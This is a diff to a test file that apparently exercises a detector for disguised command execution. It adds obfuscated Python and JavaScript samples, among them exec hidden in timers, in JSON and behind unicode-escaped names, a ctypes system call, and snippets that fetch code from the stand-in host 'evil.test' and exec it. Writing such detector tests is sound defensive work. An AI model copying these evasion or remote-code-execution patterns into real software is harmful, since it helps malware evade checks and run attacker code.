@@ -1,6 +1,6 @@
 // Each disguise must state the same call as the plain form, and say that it was one.
 import { beforeAll, describe, expect, it } from 'vitest';
-import { prepare, py } from './harness.ts';
+import { prepare, py, run } from './harness.ts';
 
 beforeAll(prepare);
 
@@ -52,6 +52,7 @@ const SYSTEM: Readonly<Record<string, string>> = {
   'two layers': `import base64\nexec(base64.b64decode("${Buffer.from(`import base64\nexec(base64.b64decode("${Buffer.from(PLAIN).toString('base64')}"))`).toString('base64')}").decode())`,
   'compiled first': 'c = compile("import os\\nos.system(\'id -a\')", "x", "exec")\nexec(c)',
   'decorator that runs': 'import os\ndef now(f):\n    f()\n    return f\n@now\ndef go():\n    os.system("id -a")',
+  'JSON written out': 'import os, json\nos.system(json.loads(\'{"c": ["id -a"]}\')["c"][0])',
   walrus: 'import os\nif (f := os.system):\n    f("id -a")',
   'try import': 'try:\n    import os as x\nexcept ImportError:\n    x = None\nx.system("id -a")',
 };
@@ -111,5 +112,35 @@ describe('constants keep their holes', () => {
   it('repeating and replacing are bounded', () => {
     const result = py('x = "a" * 10**9\ny = x.replace("a", x)\nprint(len(y))');
     expect(result.ms).toBeLessThan(1000);
+  });
+});
+
+describe('in JavaScript and by way of libraries', () => {
+  const commands = (path: string, code: string) =>
+    run({ [path]: code })
+      .commands()
+      .map((one) => one.line);
+  const CP = "const cp = require('child_process');\n";
+  it.each([
+    ['an argument of a timer', `${CP}setTimeout(cp.exec, 10, 'id -a')`],
+    ['an argument of the next tick', `${CP}process.nextTick(cp.exec, 'id -a')`],
+    ['JSON written out', `${CP}const { c } = JSON.parse('{"c": "id -a"}');\ncp.execSync(c)`],
+    ['escapes in a name', `${CP}cp.\\u0065xecSync('id -a')`],
+  ])('%s', (_, code) => expect(commands('a.js', code)).toContain('id -a'));
+
+  it('a library of the machine', () => {
+    expect(commands('a.py', 'import ctypes\nctypes.CDLL(None).system(b"id -a")')).toContain('id -a');
+  });
+  it.each([
+    ['a socket', 'import socket\ns = socket.socket()\ns.connect(("evil.test", 80))\nexec(s.recv(99))'],
+    [
+      'a connection',
+      'import http.client\nc = http.client.HTTPConnection("evil.test")\nc.request("GET", "/x")\nexec(c.getresponse().read())',
+    ],
+  ])('code of %s comes from where it is connected to', (_, code) => {
+    const found = run({ 'a.py': code })
+      .flows()
+      .filter((one) => one.to === 'evaluate');
+    expect(found.map((one) => one.host)).toContain('evil.test');
   });
 });
